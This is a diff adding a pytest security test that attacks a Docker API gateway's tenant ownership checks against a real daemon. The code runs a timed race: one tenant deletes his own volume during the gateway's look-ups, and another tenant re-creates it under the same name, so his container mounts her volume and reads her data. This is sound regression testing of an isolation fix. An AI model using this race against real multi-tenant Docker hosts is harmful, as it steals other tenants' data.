@@ -1,0 +1,158 @@
+"""Second attack review of issue 12's ownership fixes, against the real daemon.
+
+Two tenants, alice and bob (Basic), one ownership policy. Each finding is an
+xfail(strict=True) test asserting what should hold: it fails today (the hole is open) and
+XPASSes once closed.
+
+- A volume that exists and is the caller's is checked by name and not pinned: bob removes
+  his own volume after the gateway's look-up, alice creates hers under the name, and bob's
+  container mounts it (he reads her data). The first review's fix covered missing volumes
+  only; THREAT_MODEL.md calls this case a residual accident, but the caller drives it.
+"""
+
+from __future__ import annotations
+
+import os
+import threading
+import time
+from collections.abc import Iterator
+from typing import Any
+
+import pytest
+
+from support.attack import ATTACK_MARKS, Api, direct, running_tenants
+from support.daemon import PrivateDaemon
+
+pytestmark = ATTACK_MARKS
+
+RUN = os.urandom(3).hex()
+OWNER_LABEL = "io.dockgate.owner"
+USERS = {"alice": "alice-pw", "bob": "bob-pw"}
+POLICY = """
+policies:
+  tenants:
+    ownership: true
+    rules:
+      - allow:
+          sections: [ping, version, info, events, containers, exec, images, build, commit,
+                     volumes, networks, services, tasks]
+bindings:
+  - {policy: tenants, authenticated: true}
+"""
+
+
+@pytest.fixture(scope="module")
+def tenants(
+    daemon: PrivateDaemon, busybox_image: str, tmp_path_factory: pytest.TempPathFactory
+) -> Iterator[dict[str, Api]]:
+    base = tmp_path_factory.mktemp("atk12-own2")
+    with running_tenants(daemon, base, POLICY, USERS) as apis:
+        yield apis
+
+
+def _demux(raw: bytes) -> str:
+    out = b""
+    while len(raw) >= 8:
+        size = int.from_bytes(raw[4:8], "big")
+        out += raw[8 : 8 + size]
+        raw = raw[8 + size :]
+    return out.decode(errors="replace")
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="bob removes his own volume after the gateway's look-up; alice's volume created "
+    "under its name is mounted by his container (he reads her data)",
+)
+def test_bob_removes_his_checked_volume_and_his_container_mounts_alices(
+    tenants: dict[str, Api], daemon: PrivateDaemon, busybox_image: str
+) -> None:
+    """Finding 4 of the first review was closed for a MISSING volume only (the gateway now
+    creates it first). A volume that EXISTS and is the caller's is looked up, found his, and
+    the create goes on by name (a volume name cannot be pinned): THREAT_MODEL.md lists "a
+    volume the caller owns removed and re-created under its name by another caller in the
+    instant between the look-up and the create" as a residual, as if it were an accident.
+    It is not: the caller controls both ends. bob owns `V`; his `POST /containers/create`
+    mounts `V:/data` and names 60 more of his own volumes, so the gateway spends its look-ups
+    (one after the other) long after `V`'s was answered; in that window bob removes `V` (his,
+    unused: 204), and alice's `docker volume create V` (the name free again) gets her
+    labelled volume. The daemon then handles bob's create by name and mounts HER volume: bob
+    starts his container after alice wrote her data there, and reads it.
+
+    Should hold: a container the gateway lets through mounts only volumes of the caller's
+    (e.g. the created container's `Mounts` checked after the create, when a volume in use
+    can no longer be removed, and the container removed if one is someone else's)."""
+    alice, bob = tenants["alice"], tenants["bob"]
+    pads = [f"dgo-atk2-{RUN}-pad-{i}" for i in range(60)]
+    made: list[str] = []
+    volumes: list[str] = list(pads)
+    secret = f"alice-data-{os.urandom(6).hex()}"
+    stolen = ""
+    try:
+        for pad in pads:
+            status, answer = bob.call("POST", "/v1.41/volumes/create", {"Name": pad})
+            assert status == 201, (status, answer)
+
+        def body(name: str) -> dict[str, Any]:
+            binds = [f"{name}:/data"] + [f"{pad}:/p{i}" for i, pad in enumerate(pads)]
+            return {
+                "Image": busybox_image,
+                "Cmd": ["cat", "/data/secret"],
+                "HostConfig": {"Binds": binds},
+            }
+
+        # How long bob's create takes through the gateway (its look-ups, one after another).
+        probe = f"dgo-atk2-{RUN}-probe"
+        volumes.append(probe)
+        assert bob.call("POST", "/v1.41/volumes/create", {"Name": probe})[0] == 201
+        started = time.perf_counter()
+        made.append(bob.create(body(probe)))
+        took = time.perf_counter() - started
+        for round_ in range(20):
+            name = f"dgo-atk2-{RUN}-vol-{round_}"
+            volumes.append(name)
+            status, answer = bob.call("POST", "/v1.41/volumes/create", {"Name": name})
+            assert status == 201, (status, answer)
+            got: dict[str, Any] = {}
+
+            def create(name: str = name, got: dict[str, Any] = got) -> None:
+                got["answer"] = bob.call("POST", "/v1.41/containers/create", body(name))
+
+            thread = threading.Thread(target=create)
+            thread.start()
+            time.sleep(took * (0.45 + 0.05 * (round_ % 10)))
+            removed = bob.call("DELETE", f"/v1.41/volumes/{name}")[0]
+            planted = alice.call("POST", "/v1.41/volumes/create", {"Name": name})[0]
+            thread.join(timeout=30)
+            status, created = got["answer"]
+            if status == 201:
+                made.append(created["Id"])
+            if not (removed == 204 and planted == 201 and status == 201):
+                continue
+            status, inspected = direct(daemon, "GET", f"/containers/{created['Id']}/json")
+            mounted = [m["Name"] for m in inspected["Mounts"] if m["Destination"] == "/data"]
+            assert mounted == [name], inspected["Mounts"]
+            # alice writes her data into her volume (hers: her own create answered 201).
+            writer = alice.create(
+                {
+                    "Image": busybox_image,
+                    "Cmd": ["sh", "-c", f"echo {secret} > /data/secret"],
+                    "HostConfig": {"Binds": [f"{name}:/data"]},
+                }
+            )
+            made.append(writer)
+            alice.start(writer)
+            assert alice.call("POST", f"/v1.41/containers/{writer}/wait")[0] == 200
+            # bob starts his container, which mounts it, and reads the log.
+            bob.start(created["Id"])
+            assert bob.call("POST", f"/v1.41/containers/{created['Id']}/wait")[0] == 200
+            status, raw = bob.call(
+                "GET", f"/v1.41/containers/{created['Id']}/logs?stdout=1&stderr=1"
+            )
+            stolen = _demux(raw) if isinstance(raw, bytes) else str(raw)
+            break
+        assert secret not in stolen, stolen
+    finally:
+        if made:
+            daemon.docker("rm", "-f", *made, check=False)
+        daemon.docker("volume", "rm", "-f", *volumes, check=False)
